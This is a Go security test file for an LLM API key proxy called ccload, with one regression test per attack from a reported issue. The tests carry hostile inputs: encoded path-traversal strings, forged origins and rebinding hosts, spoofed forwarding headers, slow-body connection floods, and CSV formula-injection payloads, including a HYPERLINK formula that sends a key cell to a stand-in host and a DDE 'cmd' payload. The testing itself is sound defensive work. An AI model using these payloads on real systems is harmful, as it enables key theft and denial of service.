package main

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"path"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// Each test here is one attack from issue 17, named after it. Each failed
// before its fix.

// TestPathEscapeThroughEncodedDotSegments: a token holder made the
// channel's key call any path of the upstream host by putting encoded dot
// segments and slashes in the part of the path ccload appends.
func TestPathEscapeThroughEncodedDotSegments(t *testing.T) {
	e := newTestEnv(t)
	up := newFakeUpstream(t, "a")
	e.addChannel(Channel{Name: "gem", Type: "gemini", URL: up.URL + "/base", APIKeys: []string{"gem-key-0123456789"}})
	e.addChannel(Channel{Name: "oai", Type: "openai", URL: up.URL + "/base", APIKeys: []string{"oai-key-0123456789"}})
	for _, p := range []string{
		"/v1beta/models/x:a%2F..%2F..%2F..%2F..%2Fanything",
		"/v1beta/models/x:a%2f..%2f..%2fanything",
		"/v1beta/models/x:a%5C..%5C..%5Canything",
		"/v1/responses/..%2F..%2Fx",
		"/v1/responses/%2E%2E/%2e%2e/x",
		"/v1/responses/a%5Cb",
	} {
		body := `{"model":"x","input":"hi"}`
		if strings.HasPrefix(p, "/v1beta/") {
			body = `{"contents":[{"parts":[{"text":"hi"}]}]}`
		}
		resp, b := e.do("POST", p, body, nil)
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("POST %s: got %d %s; want 400", p, resp.StatusCode, b)
		}
	}
	if n := up.count(); n != 0 {
		t.Errorf("the upstream got %d requests; want none: %+v", n, up.requests())
	}
	// A plain path still goes through, under the base.
	resp, b := e.do("POST", "/v1beta/models/gemini-x:generateContent", `{"contents":[{"parts":[{"text":"hi"}]}]}`, nil)
	if resp.StatusCode != 200 {
		t.Fatalf("plain path: got %d %s", resp.StatusCode, b)
	}
	if got := up.requests()[0].Path; got != "/base/v1beta/models/gemini-x:generateContent" {
		t.Errorf("sent path %q; want it under /base", got)
	}
}

// FuzzUpstreamPath: whatever the client's path, the path ccload sends stays
// under the channel's base path once the upstream resolves it.
func FuzzUpstreamPath(f *testing.F) {
	for _, s := range []string{"/v1/messages", "/v1beta/models/x:a%2F..%2F..%2Fy", "/v1/responses/..%2F..%2Fx",
		"/v1/responses/%2e%2e", "/a/./b", "/a%5C..", "/a/%252e%252e/b", "//x/../../y", "/%zz"} {
		f.Add("/base/v", s)
	}
	f.Fuzz(func(t *testing.T, base, escaped string) {
		base = path.Clean("/" + base)
		p, ok := clientPath(escaped)
		if !ok {
			return
		}
		u := url.URL{Scheme: "http", Host: "up.example", Path: base + p}
		// What the upstream sees: the escaped path, decoded and resolved.
		sent, err := url.Parse(u.String())
		if err != nil {
			t.Fatalf("sent URL %q does not parse: %v", u.String(), err)
		}
		got := path.Clean(sent.Path)
		if got != base && !strings.HasPrefix(got, strings.TrimSuffix(base, "/")+"/") {
			t.Fatalf("client path %q resolved to %q, outside the base %q", escaped, got, base)
		}
	})
}

// sendWith sends a proxy request with extra headers and, when host is set,
// that Host.
func sendWith(t *testing.T, e *testEnv, p, host string, hdr map[string]string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest("POST", e.URL+p, strings.NewReader(anthropicBody("claude-x", false)))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	if host != "" {
		req.Host = host
	}
	resp, err := e.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, b
}

// TestOpenModeCalledByWebPageOrRebindingHost: without tokens, a page in
// the local user's browser (any origin) and a DNS-rebinding host name were
// served like the user's own CLI.
func TestOpenModeCalledByWebPageOrRebindingHost(t *testing.T) {
	e := newTestEnv(t, func(c *config) { c.Origins = []string{"http://localhost:5173"} })
	up := newFakeUpstream(t, "a")
	e.addChannel(Channel{Name: "a", URL: up.URL, APIKeys: []string{"sk-upstream-a-0123456789"}})
	for _, c := range []struct {
		name, host string
		hdr        map[string]string
	}{
		{"foreign origin", "", map[string]string{"Origin": "https://evil.example"}},
		{"null origin", "", map[string]string{"Origin": "null"}},
		{"cross-site fetch", "", map[string]string{"Sec-Fetch-Site": "cross-site"}},
		{"same-site fetch", "", map[string]string{"Sec-Fetch-Site": "same-site", "Origin": "http://127.0.0.1:1"}},
		{"rebinding host", "evil.example:8080", nil},
		{"rebinding host, no port", "evil.example", nil},
	} {
		resp, b := sendWith(t, e, "/v1/messages", c.host, c.hdr)
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(b), `"type":"permission_error"`) {
			t.Errorf("%s: got %d %s; want 403 permission_error", c.name, resp.StatusCode, b)
		}
	}
	if n := up.count(); n != 0 {
		t.Fatalf("the upstream got %d requests; want none", n)
	}
	// The user's own CLI, localhost by name, and an allowed origin pass.
	for _, c := range []struct {
		name, host string
		hdr        map[string]string
	}{
		{"cli", "", nil},
		{"localhost", "localhost:8080", nil},
		{"allowed origin", "", map[string]string{"Origin": "http://localhost:5173", "Sec-Fetch-Site": "same-site"}},
		{"ipv6 loopback", "[::1]:8080", nil},
	} {
		if resp, b := sendWith(t, e, "/v1/messages", c.host, c.hdr); resp.StatusCode != 200 {
			t.Errorf("%s: got %d %s; want 200", c.name, resp.StatusCode, b)
		}
	}
}

// TestOpenModeBehindProxyWithOtherHeaders: a local reverse proxy or CDN
// tunnel that marks requests only with CF-Connecting-IP, True-Client-IP,
// X-Client-IP or Via made open mode an open relay.
func TestOpenModeBehindProxyWithOtherHeaders(t *testing.T) {
	e := newTestEnv(t)
	up := newFakeUpstream(t, "a")
	e.addChannel(Channel{Name: "a", URL: up.URL})
	for _, h := range []string{"CF-Connecting-IP", "True-Client-IP", "X-Client-IP", "Via"} {
		v := "203.0.113.7"
		if h == "Via" {
			v = "1.1 cloudflared"
		}
		resp, b := sendWith(t, e, "/v1/messages", "", map[string]string{h: v})
		if resp.StatusCode != http.StatusUnauthorized || !strings.Contains(string(b), "proxy") {
			t.Errorf("%s: got %d %s; want 401 naming the proxy", h, resp.StatusCode, b)
		}
	}
	if n := up.count(); n != 0 {
		t.Errorf("the upstream got %d requests; want none", n)
	}
}

// TestOpenModeNoCorsFetchFromForeignPage: a page on another site, in a
// real Chromium, spent the channel's key with a no-cors fetch.
func TestOpenModeNoCorsFetchFromForeignPage(t *testing.T) {
	bctx := startChromium(t)
	e := newTestEnv(t)
	up := newFakeUpstream(t, "a")
	e.addChannel(Channel{Name: "a", URL: up.URL})
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<!doctype html><title>evil</title><p>hello")
	}))
	t.Cleanup(evil.Close)
	b := newBrowser(t, bctx, e)
	// localhost and 127.0.0.1 are different sites to the browser.
	evilURL := strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)
	b.do("open the foreign page", chromedp.Navigate(evilURL+"/"))
	got := eval[string](b, fmt.Sprintf(`fetch(%q, {method: "POST", mode: "no-cors",
		headers: {"Content-Type": "text/plain"}, body: %q}).then(() => "sent", e => "error: " + e)`,
		e.URL+"/v1/messages", anthropicBody("claude-x", false)))
	if got != "sent" {
		t.Fatalf("fetch: %s", got)
	}
	// The browser logs the refusal as a failed resource, when it gets to
	// it: expected here. This cleanup runs before newBrowser's check.
	t.Cleanup(func() {
		deadline := time.Now().Add(5 * time.Second)
		for {
			b.mu.Lock()
			n := len(b.problems)
			b.problems = slices.DeleteFunc(b.problems, func(p string) bool { return strings.Contains(p, "403 (Forbidden)") })
			removed := n != len(b.problems)
			b.mu.Unlock()
			if removed || time.Now().After(deadline) {
				return
			}
			runtime.Gosched()
		}
	})
	e.settle()
	if n := up.count(); n != 0 {
		t.Fatalf("the page's fetch reached the upstream (%d requests)", n)
	}
	if l := e.lastLog(); l.Status != http.StatusForbidden {
		t.Errorf("log row status %d; want 403", l.Status)
	}
}

// TestGeminiTokenInEncodedKeyQuery: ?%6Bey=<token> authenticated (the
// query is decoded) but was not stripped, so the upstream URL carried the
// client's token.
func TestGeminiTokenInEncodedKeyQuery(t *testing.T) {
	const tok = "client-token-0123456789"
	e := newTestEnv(t, func(c *config) { c.AuthTokens = []string{"alice:" + tok} })
	up := newFakeUpstream(t, "a")
	e.addChannel(Channel{Name: "gem", Type: "gemini", URL: up.URL, APIKeys: []string{"gem-key-0123456789"}})
	body := `{"contents":[{"parts":[{"text":"hi"}]}]}`
	for _, q := range []string{"?key=" + tok, "?%6Bey=" + tok, "?%6b%65%79=" + tok + "&alt=json", "?alt=json&k%65y=" + tok} {
		resp, b := e.do("POST", "/v1beta/models/gemini-x:generateContent"+q, body, nil)
		if resp.StatusCode != 200 {
			t.Fatalf("%s: got %d %s", q, resp.StatusCode, b)
		}
	}
	for _, r := range up.requests() {
		if strings.Contains(r.Query, tok) || strings.Contains(r.Path, tok) {
			t.Errorf("the upstream saw the client's token: %s?%s", r.Path, r.Query)
		}
	}
}

// TestUpstreamEchoesKeyInError: an upstream whose error message echoed the
// request headers put the channel's full key into the client's answer, the
// log's error and the channel test's message.
func TestUpstreamEchoesKeyInError(t *testing.T) {
	const tok = "client-token-0123456789"
	e := newTestEnv(t, func(c *config) { c.AuthTokens = []string{"alice:" + tok} })
	up := newFakeUpstream(t, "a")
	keys := []string{"sk-ant-secret-key-one-0123456789", "sk-ant-secret-key-two-9876543210"}
	ch := e.addChannel(Channel{Name: "a", URL: up.URL, APIKeys: keys})
	leaks := func(where string, b []byte) {
		t.Helper()
		for _, k := range append(keys, tok) {
			if strings.Contains(string(b), k) {
				t.Errorf("%s holds the secret %q: %s", where, k, b)
			}
		}
	}
	auth := map[string]string{"Authorization": "Bearer " + tok, "Anthropic-Version": "2023-06-01"}
	for _, status := range []int{500, 400} {
		up.set(fakeBehavior{Status: status, EchoHeaders: true})
		resp, b := e.do("POST", "/v1/messages", anthropicBody("claude-x", false), auth)
		if resp.StatusCode != status || !strings.Contains(string(b), "rejected request with headers") {
			t.Fatalf("got %d %s; want the upstream's %d with its message", resp.StatusCode, b, status)
		}
		leaks(fmt.Sprintf("the client's %d answer", status), b)
	}
	// The upstream did get the key: the test is not vacuous.
	if r := up.requests(); len(r) == 0 || !slices.Contains(keys, r[0].Key) {
		t.Fatalf("upstream requests: %+v", r)
	}
	adm := e.login()
	e.settle()
	_, logs := e.admin(adm, "GET", "/admin/logs", "")
	if !strings.Contains(string(logs), "rejected request with headers") {
		t.Fatalf("the log holds no error text: %s", logs)
	}
	leaks("/admin/logs", logs)
	up.set(fakeBehavior{Status: 500, EchoHeaders: true})
	st, test := e.admin(adm, "POST", fmt.Sprintf("/admin/channels/%d/test", ch.ID), `{}`)
	if st != 200 || !strings.Contains(string(test), "rejected request with headers") {
		t.Fatalf("test: %d %s", st, test)
	}
	leaks("the channel test's answer", test)
	if got, _ := redactBytes([]byte("x "+tok+" y"), keys, tok); strings.Contains(string(got), tok) {
		t.Errorf("the client's token is not masked: %s", got)
	}
}

// TestCSVExportFormulaInjection: a channel named =HYPERLINK("…"&C2,…) was
// exported as is, beside the full-key column: opening the backup in a
// spreadsheet ran it.
func TestCSVExportFormulaInjection(t *testing.T) {
	e := newTestEnv(t)
	tok := e.login()
	names := []string{`=HYPERLINK("http://x.example/?k="&C2,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
		"'=already quoted", "''+twice", "'plain quote"}
	for i, n := range names {
		e.addChannel(Channel{Name: n, URL: "http://up.example", APIKeys: []string{fmt.Sprintf("=key-%d-0123456789", i)},
			Priority: -i, Models: []string{"-m", "@n"}, ModelRedirects: map[string]string{"+a": "=b"}})
	}
	before := csvChannels(e)
	_, b := csvExport(e, tok)
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if formulaStart(cell) {
				t.Errorf("exported cell %s = %q starts a formula", csvColumns[i], cell)
			}
		}
	}
	// Export → import changes nothing, here and into a fresh ccload.
	if st, a := csvImportText(e, tok, string(b)); st != 200 || a.Unchanged != len(names) {
		t.Fatalf("re-import: %d %+v", st, a)
	}
	e2 := newTestEnv(t)
	if st, a := csvImportText(e2, e2.login(), string(b)); st != 200 || a.Created != len(names) {
		t.Fatalf("import into a fresh ccload: %d %+v", st, a)
	}
	after := csvChannels(e2)
	for i := range before {
		if !sameChannel(before[i], after[i]) {
			t.Errorf("round trip changed channel %d:\n got %+v\nwant %+v", i, after[i], before[i])
		}
	}
}

// slowPost opens a connection from the local address from and sends the
// headers of a POST announcing a large body, and then only a few bytes of
// it.
func slowPost(t *testing.T, e *testEnv, from, path, hdr string) net.Conn {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}
	c, err := d.Dial("tcp", strings.TrimPrefix(e.URL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n%s\r\n{\"pas", path, hdr)
	return c
}

// TestSlowBodiesExhaustConnections: bodies that announce a megabyte and
// send six bytes were held open indefinitely; enough of them took every
// file descriptor and /healthz stopped answering.
func TestSlowBodiesExhaustConnections(t *testing.T) {
	const limit = 8
	e := newTestEnv(t, func(c *config) {
		c.MaxConnsPerIP = limit
		c.BodyTimeout = 300 * time.Millisecond
	})
	e.app.admin.bodyTimeout = 300 * time.Millisecond
	up := newFakeUpstream(t, "a")
	e.addChannel(Channel{Name: "a", URL: up.URL})
	// One address fills its quota with slow bodies, on /login, an admin
	// write and the proxy.
	tok := e.login()
	var slow []net.Conn
	for i := range limit {
		p := []string{"/login", "/admin/channels", "/v1/messages"}[i%3]
		slow = append(slow, slowPost(t, e, "127.0.0.2", p, "Authorization: Bearer "+tok+"\r\n"))
	}
	// Its next connection is refused at once...
	extra := slowPost(t, e, "127.0.0.2", "/login", "")
	extra.SetReadDeadline(time.Now().Add(5 * time.Second))
	if n, err := extra.Read(make([]byte, 1)); err != io.EOF && !errors.Is(err, syscall.ECONNRESET) {
		t.Errorf("connection over the limit: read %d, %v; want it closed", n, err)
	}
	// ...while everyone else is served, /healthz and the admin too.
	start := time.Now()
	if resp, b := e.do("GET", "/healthz", "", nil); resp.StatusCode != 200 {
		t.Fatalf("healthz: %d %s", resp.StatusCode, b)
	}
	e.login()
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("healthz and login took %s with the slow connections open", d)
	}
	// Each slow body ends with 408 once its deadline passes, which frees
	// its connection.
	for i, c := range slow {
		c.SetReadDeadline(time.Now().Add(10 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("slow connection %d: %v", i, err)
		}
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusRequestTimeout {
			t.Errorf("slow connection %d: got %d %s; want 408", i, resp.StatusCode, b)
		}
	}
	if up.count() != 0 {
		t.Errorf("the upstream got %d requests", up.count())
	}
}

// loginFrom posts a login with the given password and extra header lines
// (each value its own line), carrying cookies in jar when it is not nil.
func loginFrom(t *testing.T, e *testEnv, c *http.Client, pass string, hdr http.Header) int {
	t.Helper()
	req, _ := http.NewRequest("POST", e.URL+"/login", strings.NewReader(`{"password":"`+pass+`"}`))
	req.Header.Set("Content-Type", "application/json")
	for k, vs := range hdr {
		for _, v := range vs {
			req.Header.Add(k, v)
		}
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode
}

// TestLoginLimiterSpoofedForwardedFor: with two X-Forwarded-For lines the
// first, which the client writes, was the one counted, so rotating it gave
// unlimited guesses through a proxy that appends its own line.
func TestLoginLimiterSpoofedForwardedFor(t *testing.T) {
	e := newTestEnv(t)
	for i := range loginMaxFails + 1 {
		// The client's own line rotates; the proxy's line names it.
		hdr := http.Header{"X-Forwarded-For": {fmt.Sprintf("10.9.%d.1", i), "198.51.100.9"}}
		st := loginFrom(t, e, e.client, "wrong", hdr)
		if i < loginMaxFails && st != http.StatusUnauthorized {
			t.Fatalf("try %d: got %d; want 401", i, st)
		}
		if i == loginMaxFails && st != http.StatusTooManyRequests {
			t.Fatalf("try %d past the limit: got %d; want 429", i, st)
		}
	}
	for _, c := range []struct {
		trust proxyTrust
		peer  string
		lines []string
		want  string
	}{
		{nil, "127.0.0.1:5", []string{"1.2.3.4, 198.51.100.9"}, "198.51.100.9"},
		{nil, "127.0.0.1:5", []string{"6.6.6.6", "198.51.100.9, 127.0.0.1"}, "198.51.100.9"},
		{nil, "203.0.113.1:5", []string{"1.2.3.4"}, "203.0.113.1"},
		{proxyTrust{netip.MustParsePrefix("10.0.0.0/8")}, "10.0.0.5:5", []string{"6.6.6.6, 198.51.100.9, 10.1.1.1"}, "198.51.100.9"},
		{proxyTrust{netip.MustParsePrefix("10.0.0.0/8")}, "127.0.0.1:5", []string{"6.6.6.6"}, "127.0.0.1"},
		{nil, "127.0.0.1:5", []string{"garbage, 198.51.100.9:443"}, "198.51.100.9"},
		{nil, "127.0.0.1:5", []string{strings.Repeat("9", 900<<10)}, "127.0.0.1"},
	} {
		r, _ := http.NewRequest("GET", "/", nil)
		r.RemoteAddr = c.peer
		r.Header["X-Forwarded-For"] = c.lines
		if got := c.trust.clientIP(r); got != c.want {
			t.Errorf("peer %s, lines %.40q: got %q; want %q", c.peer, c.lines, got, c.want)
		}
	}
}

// TestLoginLimiterHugeForwardedValues: unique 900 KB X-Forwarded-For
// values each became a limiter key (445 MB for 300 of them).
func TestLoginLimiterHugeForwardedValues(t *testing.T) {
	e := newTestEnv(t)
	for i := range 20 {
		v := fmt.Sprintf("%d%s", i, strings.Repeat("x", 900<<10))
		loginFrom(t, e, e.client, "wrong", http.Header{"X-Forwarded-For": {v}})
	}
	l := e.app.admin.limiter
	l.mu.Lock()
	defer l.mu.Unlock()
	total := 0
	for k := range l.fails {
		total += len(k)
	}
	if total > 20*64 {
		t.Errorf("the limiter holds %d bytes of keys for 20 logins", total)
	}
	// And its size is capped, whatever the spray.
	for i := range maxLimited + 50 {
		l.mu.Unlock()
		l.begin(fmt.Sprintf("192.0.%d.%d", i>>8, i&255))
		l.mu.Lock()
	}
	if n := len(l.fails); n > maxLimited {
		t.Errorf("the limiter holds %d entries; want at most %d", n, maxLimited)
	}
}

// TestConcurrentPasswordHashingStarvesServer: every login ran PBKDF2 at
// once, however many came; 200 of them slowed /healthz to a second.
func TestConcurrentPasswordHashingStarvesServer(t *testing.T) {
	e := newTestEnv(t, func(c *config) { c.AdminPass = "" })
	p := e.app.admin.pass
	p.wait = 50 * time.Millisecond
	// Every slot busy: the next login waits for one, then gives up.
	for range cap(p.slots) {
		p.slots <- struct{}{}
	}
	if st := loginFrom(t, e, e.client, "any", nil); st != http.StatusServiceUnavailable {
		t.Errorf("login with every hashing slot taken: got %d; want 503", st)
	}
	for range cap(p.slots) {
		<-p.slots
	}
	if st := loginFrom(t, e, e.client, "wrong", nil); st != http.StatusUnauthorized {
		t.Errorf("login with free slots: got %d; want 401", st)
	}
}

// TestLoginLockoutLocksOutRightPassword: everyone behind one proxy address
// shares a limit, so five wrong guesses by anyone there locked the admin
// out too. A browser that logged in before keeps its own count.
func TestLoginLockoutLocksOutRightPassword(t *testing.T) {
	e := newTestEnv(t)
	jar, _ := cookiejar.New(nil)
	admin := &http.Client{Jar: jar}
	if st := loginFrom(t, e, admin, testAdminPass, nil); st != 200 {
		t.Fatalf("first login: %d", st)
	}
	for range loginMaxFails {
		loginFrom(t, e, e.client, "guess", nil)
	}
	if st := loginFrom(t, e, e.client, testAdminPass, nil); st != http.StatusTooManyRequests {
		t.Errorf("the address is locked: got %d; want 429", st)
	}
	if st := loginFrom(t, e, admin, testAdminPass, nil); st != 200 {
		t.Errorf("the admin's browser, which logged in before: got %d; want 200", st)
	}
	// A forged device cookie counts as the address.
	forged := http.Header{"Cookie": {deviceCookie + "=abc.0123"}}
	if st := loginFrom(t, e, e.client, testAdminPass, forged); st != http.StatusTooManyRequests {
		t.Errorf("forged device cookie: got %d; want 429", st)
	}
}

// TestSessionSurvivesPasswordChange: after a restart with a new
// CCLOAD_PASS the old session token still exported every key.
func TestSessionSurvivesPasswordChange(t *testing.T) {
	cfg := testConfig(t)
	e := startEnv(t, cfg)
	tok := e.login()
	e.close()
	// The same password keeps the session...
	e = startEnv(t, cfg)
	if st, b := e.admin(tok, "GET", "/admin/channels/export", ""); st != 200 {
		t.Fatalf("same password: got %d %s; want 200", st, b)
	}
	e.close()
	// ...a new one ends it.
	cfg.AdminPass = "a new password entirely"
	e = startEnv(t, cfg)
	if st, b := e.admin(tok, "GET", "/admin/channels/export", ""); st != http.StatusUnauthorized {
		t.Fatalf("old session after a password change: got %d %s; want 401", st, b)
	}
}

// TestStolenSessionOutlivesLogout: logging out ended only the session that
// asked; a stolen token stayed good until it expired. "Log out everywhere"
// ends them all.
func TestStolenSessionOutlivesLogout(t *testing.T) {
	e := newTestEnv(t)
	mine, stolen := e.login(), e.login()
	st, b := e.admin(mine, "POST", "/admin/logout-all", "")
	if st != 200 || !strings.Contains(string(b), `"sessions_ended":2`) {
		t.Fatalf("logout-all: %d %s", st, b)
	}
	for _, tok := range []string{mine, stolen} {
		if st, _ := e.admin(tok, "GET", "/admin/channels", ""); st != http.StatusUnauthorized {
			t.Errorf("a session after logout-all: got %d; want 401", st)
		}
	}
}

// TestAdminJSONSniffed: the admin API's JSON, which echoes names the admin
// typed, carried no X-Content-Type-Options, so a browser could sniff it as
// something else.
func TestAdminJSONSniffed(t *testing.T) {
	e := newTestEnv(t)
	tok := e.login()
	for _, p := range []string{"/admin/channels", "/admin/summary", "/admin/nothing"} {
		resp, _ := e.do("GET", p, "", map[string]string{"Authorization": "Bearer " + tok})
		if got := resp.Header.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("GET %s: X-Content-Type-Options %q; want nosniff", p, got)
		}
	}
	if resp, _ := e.do("POST", "/login", `{"password":"x"}`, nil); resp.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("POST /login: no nosniff")
	}
}

// TestCSVImportExhaustsMemory: a 1 MB header of a million empty columns
// killed the process (4.8 GB), and one 9 MiB row of commas took 740 MB.
// Any file the import accepts to read (10 MiB at most) must stay under
// about 100 MB, measured here as all the memory parsing and planning it
// allocates.
func TestCSVImportExhaustsMemory(t *testing.T) {
	const limit = maxImportBody
	pad := func(head string, fill func(b *strings.Builder), tail ...string) []byte {
		var b strings.Builder
		b.WriteString(head)
		for b.Len() < limit-1024 {
			fill(&b)
		}
		b.WriteString(strings.Join(tail, ""))
		return []byte(b.String())
	}
	files := map[string][]byte{
		"a million empty columns": []byte(strings.Repeat(",", 1_000_000) + "name\n" + strings.Repeat("a\n", 200)),
		"one row of commas":       pad("name,url,api_key\n", func(b *strings.Builder) { b.WriteString(",,,,,,,,,,,,,,,,") }),
		"one cell of many keys": pad("name,url,api_key\nx,http://up.example,\"", func(b *strings.Builder) {
			fmt.Fprintf(b, "sk-%d-0123456789,", b.Len())
		}, "sk-last-0123456789\"\n"),
		"one huge name":  pad("name,url,api_key\n\"", func(b *strings.Builder) { b.WriteString("nnnnnnnnnnnnnnnn") }, "\",http://up.example,sk-0123456789\n"),
		"blank lines":    pad("name\n", func(b *strings.Builder) { b.WriteString("\n\n\n\n\n\n\n\n") }),
		"many wide rows": pad(strings.Repeat("c,", 99)+"name\n", func(b *strings.Builder) { b.WriteString(strings.Repeat("v,", 99) + "n\n") }),
		"the most rows allowed": pad("name,url,api_key,models\n", func(b *strings.Builder) {
			fmt.Fprintf(b, "ch-%d,http://up.example/%d,sk-%d-0123456789,\"%s\"\n", b.Len(), b.Len(), b.Len(), strings.Repeat("m,", 40))
		}),
	}
	for name, data := range files {
		if len(data) > limit {
			t.Fatalf("%s: %d bytes, over the limit", name, len(data))
		}
		runtime.GC()
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		base, peak := ms.HeapInuse, ms.HeapInuse
		// Sample the heap while the import runs: its peak, garbage not
		// yet collected included, is what the process needs.
		done, sampled := make(chan struct{}), make(chan struct{})
		go func() {
			defer close(sampled)
			tick := time.NewTicker(time.Millisecond)
			defer tick.Stop()
			for {
				var m runtime.MemStats
				runtime.ReadMemStats(&m)
				peak = max(peak, m.HeapInuse)
				select {
				case <-done:
					return
				case <-tick.C:
				}
			}
		}()
		f := parseImportFile(data)
		plan := planImport(nil, f)
		close(done)
		<-sampled
		used := peak - base
		t.Logf("%s (%d bytes): peak heap +%d MB, %d rows, %d problems", name, len(data), used>>20, len(f.rows), len(plan.problems))
		if used > 100<<20 {
			t.Errorf("%s: importing took %d MB; want under 100 MB", name, used>>20)
		}
	}
	if f := parseImportFile(files["a million empty columns"]); len(f.problems) != 1 || !strings.Contains(f.problems[0].Message, "more than 100 cells") {
		t.Errorf("a million columns: problems %+v", f.problems)
	}
}

// TestSecurityConfig: the new variables parse, and bad values are clear
// errors that name the variable.
func TestSecurityConfig(t *testing.T) {
	env := map[string]string{"CCLOAD_ORIGINS": "http://localhost:3000, *", "CCLOAD_TRUSTED_PROXIES": "10.0.0.0/8, 192.0.2.7",
		"CCLOAD_BODY_TIMEOUT": "5s", "CCLOAD_MAX_CONNS_PER_IP": "0"}
	c, err := loadConfig(func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Origins) != 2 || len(c.TrustedProxies) != 2 || c.bodyWait() != 5*time.Second || c.MaxConnsPerIP != -1 ||
		!c.TrustedProxies.trusts(netip.MustParseAddr("10.1.2.3")) || c.TrustedProxies.trusts(netip.MustParseAddr("127.0.0.1")) {
		t.Errorf("parsed: %+v", c.securityConfig)
	}
	bad := map[string]string{"CCLOAD_ORIGINS": "localhost:3000/x", "CCLOAD_TRUSTED_PROXIES": "10.0.0.0/99",
		"CCLOAD_BODY_TIMEOUT": "never", "CCLOAD_MAX_CONNS_PER_IP": "-3"}
	_, err = loadConfig(func(k string) string { return bad[k] })
	for k := range bad {
		if err == nil || !strings.Contains(err.Error(), k) {
			t.Errorf("bad %s: got %v", k, err)
		}
	}
}

// TestBrowserLogOutEverywhere: the web admin's button ends every session,
// another device's too.
func TestBrowserLogOutEverywhere(t *testing.T) {
	bctx := startChromium(t)
	e := newTestEnv(t)
	other := e.login() // another device
	b := newBrowser(t, bctx, e)
	b.loginAt("#/dashboard", "#summary-cards .stat")
	b.do("log out everywhere", chromedp.Click(chromedp.CSS("#logout-all")), chromedp.WaitVisible(chromedp.CSS("#password")))
	if st, _ := e.admin(other, "GET", "/admin/channels", ""); st != http.StatusUnauthorized {
		t.Errorf("the other device's session after log out everywhere: got %d; want 401", st)
	}
	if n := eval[string](b, "document.getElementById('logout-all').textContent"); n != "Log out everywhere" {
		t.Errorf("button text %q", n)
	}
}

// TestRedactRacesOnTheChannelsKeys: masking appended the client's token to
// the channel's key slice, whose spare capacity every request shares, so two
// requests masked each other's token and left their own.
func TestRedactRacesOnTheChannelsKeys(t *testing.T) {
	var keys []string
	json.Unmarshal([]byte(`["sk-channel-key-0001","sk-channel-key-0002","sk-channel-key-0003"]`), &keys)
	if cap(keys) == len(keys) {
		t.Skip("no spare capacity: nothing to race on")
	}
	var wg sync.WaitGroup
	var leaks atomic.Int64
	for _, tok := range []string{"client-token-AAAAAAAAAAAA", "client-token-BBBBBBBBBBBB"} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range 20000 {
				if strings.Contains(redactString("echo: "+tok, keys, tok), tok) {
					leaks.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	if n := leaks.Load(); n > 0 {
		t.Errorf("client token left unmasked %d times", n)
	}
}

// TestUpstreamEchoesKeyInALargeError: a 4xx over 64 KiB streamed through
// unmasked, and an upstream echoing a Claude Code request with its headers
// answers that large.
func TestUpstreamEchoesKeyInALargeError(t *testing.T) {
	e := newTestEnv(t)
	up := newFakeUpstream(t, "a")
	const key = "sk-ant-secret-key-0123456789"
	e.addChannel(Channel{Name: "a", URL: up.URL, APIKeys: []string{key}})
	up.set(fakeBehavior{Status: 400, EchoHeaders: true, EchoPad: 70 << 10})
	resp, body := e.post("/v1/messages", anthropicBody("m", false))
	if resp.StatusCode != 400 || len(body) < 70<<10 || !strings.Contains(string(body), "rejected request with headers") {
		t.Fatalf("got %d, %d bytes; want the upstream's whole 400", resp.StatusCode, len(body))
	}
	if strings.Contains(string(body), key) {
		t.Errorf("the channel's key reached the client in a %d-byte 4xx", len(body))
	}
}
